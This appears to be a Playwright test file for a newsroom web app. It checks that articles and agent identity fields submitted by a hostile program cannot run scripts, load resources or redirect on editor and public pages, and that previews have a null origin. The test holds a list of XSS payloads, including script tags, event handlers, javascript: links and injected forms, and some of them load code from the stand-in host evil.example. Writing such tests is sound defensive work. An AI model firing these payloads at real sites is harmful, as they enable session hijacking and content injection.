import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Page } from 'playwright-core';
import { publish } from '../src/article/publish.ts';
import { openBrowser, serveHouse, signInAs, watch } from './browser.ts';
import { bearer, draft, json, type TestHouse } from './house.ts';

// Whatever a program may send, sent with the intent to run in an editor's session.

const EVIL = 'https://evil.example';
const ATTACKS = [
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg/onload=alert(1)>`,
  `</title></textarea></style><script src=${EVIL}/x.js></script>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<link rel=stylesheet href=${EVIL}/x.css><style>@import "${EVIL}/y.css";</style>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/"><base href="${EVIL}/">`,
  `<form action=${EVIL}/><button>Publish revision 0</button></form>`,
  `[a](javascript:alert(1)) ![b](${EVIL}/pixel.png) [c](data:text/html,<script>alert(1)</script>)`,
  `[d](${EVIL}/"onmouseover="alert(1)) <a href="javascript:alert(1)" autofocus onfocus=alert(1)>e</a>`,
  '`</code><script>alert(1)</script>`',
  `{{constructor.constructor("alert(1)")()}} \${alert(1)} &lt;script&gt;alert(1)&lt;/script&gt;`,
];
const ALL = ATTACKS.join(' ');
const MARK = 'MARK-OF-THE-TEST';

/** All attacks that fit into `most` characters, behind a mark by which the page is seen to show the field. */
function attack(field: string, most = 5000): string {
  return `${MARK}-${field} ${ALL}`.slice(0, most);
}

function hostile(slug: string, headline: string): Record<string, unknown> {
  const types = ['paragraph', 'heading', 'subheading', 'quote', 'list'];
  const notes = ['claimsReview', 'editorialStatus', 'factCheckNotes', 'heroBrief', 'reportingGaps'];
  const more = ['seoDescription', 'seoTitle', 'socialExcerpt', 'sourceNotes'];
  return draft({
    slug,
    headline,
    dek: attack('dek', 240),
    bodyBlocks: types.flatMap((type) => [
      { id: attack(`id-${type}`), type, text: attack(`text-${type}`) },
      { id: type, type, text: ATTACKS.join('\n') },
    ]),
    sources: ATTACKS.map((one, n) => ({
      title: attack(`title-${n}`, 240),
      url: `${EVIL}/?${n}=${one.replace(/[\s\\]/g, '+')}`,
      publisher: attack('publisher', 160),
      note: attack('note', 500),
    })),
    correctionNote: attack('correction', 2000),
    sponsorshipDisclosure: attack('sponsor', 1000),
    editorialPacket: Object.fromEntries([...notes, ...more].map((name) => [name, attack(name)])),
  });
}

/** Lets a program in that is hostile by its name and by whom it asks for, through the page itself. */
async function letInHostile(house: TestHouse, page: Page): Promise<string> {
  const base = house.config.publication.baseUrl;
  const asked = await fetch(`${base}/api/agent/identity`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'User-Agent': attack('program', 190) },
    body: JSON.stringify({ type: 'service_auth', login_hint: attack('hint', 300) }),
  });
  const { claim_token, user_code } = await json(asked);
  await page.goto(`${base}/agent/claim`);
  await page.getByLabel('Code').fill(user_code);
  await page.keyboard.press('Enter');
  await page.getByText(`${MARK}-program`).first().waitFor();
  await page.getByText(`${MARK}-hint`).first().waitFor();
  await page.getByRole('button', { name: 'Approve' }).click();
  await page.getByText(`${MARK}-program`).first().waitFor();
  const grant_type = 'urn:example:agent-auth:grant-type:claim';
  const body = new URLSearchParams({ grant_type, claim_token });
  return (await json(await fetch(`${base}/api/agent/token`, { method: 'POST', body }))).access_token;
}

async function send(house: TestHouse, token: string, path: string, body: Record<string, unknown>): Promise<string> {
  const response = await house.fetch(path, { method: 'POST', headers: bearer(token), body: JSON.stringify(body) });
  const answer = await json(response);
  assert.equal(response.status, 201, JSON.stringify(answer));
  return answer.id;
}

test('nothing a program can fill in runs, asks or fetches on any page of the newsroom', async (t) => {
  const house = await serveHouse(t);
  const base = house.config.publication.baseUrl;
  const ruth = await house.person('chief', 'Ruth Okafor');
  const context = await (await openBrowser(t)).newContext();
  await signInAs(context, house, ruth);
  const page = await context.newPage();
  const seen = watch(page, house);
  const token = await letInHostile(house, page);

  const ids = [];
  for (const [n, one] of ATTACKS.entries()) {
    ids.push(await send(house, token, '/api/admin/articles', hostile(`hostile-${n}`, `${MARK} ${one}`.slice(0, 110))));
  }
  const [first = ''] = ids;
  await publish(house.press, ruth, first, 0);
  const again = { ...hostile('hostile-moved', attack('headline', 110)), section: 'software', baseRevision: 0 };
  await send(house, token, `/api/admin/articles/${first}/revisions`, {
    ...again,
    correctionNote: attack('later', 1999),
  });

  const paths = [
    '/newsroom',
    '/newsroom/agents',
    '/newsroom/masthead',
    '/newsroom/sessions',
    ...ids.flatMap((id) => [`/newsroom/articles/${id}`, `/newsroom/articles/${id}/revisions/0`]),
    `/newsroom/articles/${first}/revisions/1`,
    `/newsroom/articles/${first}/compare/0/1`,
    ...ids.map((id) => `/newsroom/articles/${id}/revisions/0/preview`),
    `/newsroom?q=${encodeURIComponent(ALL.slice(0, 180))}`,
    `/newsroom?desk=${encodeURIComponent(ALL)}&status=${encodeURIComponent(ALL)}`,
    `/newsroom/sign-in?next=${encodeURIComponent(ALL)}`,
  ];
  for (const path of paths) {
    await page.goto(base + path);
    const shown = await page.content();
    const fields = path.startsWith('/newsroom/articles') || path === '/newsroom' || path === '/newsroom/agents';
    if (fields) assert.ok(shown.includes(MARK), `${path} shows what was sent`);
    const live = await page
      .locator(
        'script:not([src^="/newsroom/script/"]), object, embed, base, meta[http-equiv], img, svg, style, [onerror], [onload], [onfocus], [onmouseover]',
      )
      .count();
    assert.equal(live, 0, `${path} has only elements of ours`);
    assert.equal(await page.locator('a[href^="javascript:" i], a[href^="data:" i]').count(), 0, path);
    for (const button of await page.getByRole('button', { name: /^Publish/ }).all()) {
      const action = await button.evaluate((element) => (element as HTMLButtonElement).form?.getAttribute('action'));
      assert.match(action ?? '', /^\/newsroom\/articles\/[0-9a-f-]{36}\/publish$/);
    }
    assert.equal(new URL(page.url()).origin, base, path);
    assert.deepEqual(seen, [], path);
  }
  await publish(house.press, ruth, first, 1);
  for (const path of ['/', '/software', '/software/hostile-moved', '/corrections']) {
    await page.goto(base + path);
    assert.ok((await page.content()).includes(MARK), `${path} shows what was published`);
    assert.deepEqual(seen, [], path);
  }
});

test('a preview has no origin: it can neither run a script nor see the session', async (t) => {
  const house = await serveHouse(t);
  const base = house.config.publication.baseUrl;
  const ruth = await house.person('chief', 'Ruth Okafor');
  const token = await house.letIn(ruth);
  const id = await send(house, token, '/api/admin/articles', draft());
  const context = await (await openBrowser(t)).newContext();
  await signInAs(context, house, ruth);
  const page = await context.newPage();
  await page.goto(`${base}/newsroom/articles/${id}`);
  const frame = page.frames().find((one) => one.url().endsWith('/preview'));
  assert.equal(await frame?.evaluate(() => self.origin), 'null');
  await page.goto(`${base}/newsroom/articles/${id}/revisions/0/preview`);
  assert.equal(await page.evaluate(() => self.origin), 'null', 'also where it is opened without a frame');
  const framed = await page.evaluate(() => document.body.textContent?.includes('wrote down every stop'));
  assert.equal(framed, true, 'and it is shown');
});
